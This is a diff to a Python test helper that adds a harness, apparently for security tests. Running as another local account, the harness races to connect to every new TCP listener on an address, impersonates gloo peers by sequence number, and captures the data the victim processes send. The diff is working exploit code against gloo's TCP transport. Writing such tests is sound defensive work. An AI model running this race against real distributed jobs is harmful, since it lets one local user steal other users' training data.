@@ -456,3 +456,105 @@ class Wedge:
 def describe(sockets: list[Socket]) -> list[dict]:
     """The sockets as plain dicts (for assertion messages)."""
     return [asdict(s) | {"key": s.key} for s in sockets]
+
+
+# Runs as the other account: watches /proc/net/tcp for every new listener on one address
+# and connects to it at once, naming the gloo pair sequence numbers 0..n-1 (a gloo
+# listener hands a connection to whichever pair waits for the number it names); then
+# echoes the victims' ready notifications and reads what they send. Args on stdin: {"address", "seconds", "seqs"}.
+RACE_SNIPPET = r'''
+import json, socket, struct, sys, threading, time
+args = json.load(sys.stdin)
+addr, seqs = args["address"], args["seqs"]
+hexaddr = "".join(f"{int(b):02X}" for b in reversed(addr.split(".")))
+seen, got, lock = set(), [], threading.Lock()
+def rx(c, n):
+    b = b""
+    while len(b) < n:
+        x = c.recv(n - len(b))
+        if not x:
+            raise ConnectionError
+        b += x
+    return b
+def listen(c, port, seq):
+    try:
+        while True:
+            pre = rx(c, 48)  # gloo's Op preamble: nbytes, opcode, slot, offset, length, roffset
+            nbytes, opcode, slot, offset, length, roffset = struct.unpack("<6Q", pre)
+            data = rx(c, length) if opcode in (0, 1) and length < (1 << 26) else b""
+            if opcode in (2, 3):  # "ready to send/receive": answer in kind, and the victim sends its data
+                c.sendall(pre)
+            with lock:
+                got.append({"port": port, "seq": seq, "opcode": opcode, "length": length,
+                            "floats": list(struct.unpack("<4f", data[:16])) if len(data) >= 16 else None})
+    except Exception:
+        pass
+end = time.monotonic() + args["seconds"]
+import signal
+def finish(*_):
+    global end
+    end = 0
+signal.signal(signal.SIGTERM, finish)  # the test is done: report now
+held = []
+while time.monotonic() < end:
+    try:
+        with open("/proc/net/tcp") as f:
+            rows = f.read().splitlines()[1:]
+    except OSError:
+        rows = []
+    for row in rows:
+        p = row.split()
+        if len(p) < 10 or p[3] != "0A" or not p[1].startswith(hexaddr + ":") or p[9] in seen:
+            continue
+        seen.add(p[9])
+        port = int(p[1].split(":")[1], 16)
+        for seq in range(seqs):
+            try:
+                c = socket.create_connection((addr, port), timeout=1)
+                c.sendall(struct.pack("<q", seq))
+                c.settimeout(None)
+                held.append(c)
+                threading.Thread(target=listen, args=(c, port, seq), daemon=True).start()
+            except OSError:
+                pass
+    time.sleep(0.0005)
+with lock:
+    json.dump({"listeners": len(seen), "received": got}, sys.stdout)
+'''
+
+
+class ListenerRace:
+    """As `user`: for `seconds`, connect to every new TCP listener on `address` the moment
+    it appears, naming gloo pair sequence numbers 0..seqs-1, and record what the victims
+    send (`result()`: {"listeners": n, "received": [{port, seq, opcode, length, floats}]})."""
+
+    def __init__(self, address: str, seconds: float, *, seqs: int = 4, user: str = ATTACKER) -> None:
+        self.seconds = seconds
+        self._request = json.dumps({"address": address, "seconds": seconds, "seqs": seqs})
+        self._argv = attacker_argv(user)
+        self._argv[self._argv.index(SNIPPET)] = RACE_SNIPPET
+        self._proc: subprocess.Popen | None = None
+
+    def start(self) -> "ListenerRace":
+        self._proc = subprocess.Popen(self._argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                                      stderr=subprocess.PIPE, text=True, cwd="/", env={"PATH": "/usr/bin:/bin"},
+                                      start_new_session=True)
+        assert self._proc.stdin is not None
+        self._proc.stdin.write(self._request)
+        self._proc.stdin.close()
+        self._proc.stdin = None
+        return self
+
+    def result(self, *, now: bool = False) -> dict:
+        """What it saw; now=True: tell it to stop first (else it runs its `seconds`)."""
+        assert self._proc is not None
+        if now and self._proc.poll() is None:
+            self._proc.terminate()
+        out, errs = self._proc.communicate(timeout=self.seconds + 30)
+        if self._proc.returncode != 0:
+            raise RuntimeError(f"the attacker failed ({self._proc.returncode}): {errs[-2000:]}")
+        return json.loads(out)
+
+    def stop(self) -> None:
+        if self._proc is not None:
+            procs.stop_popen(self._proc)
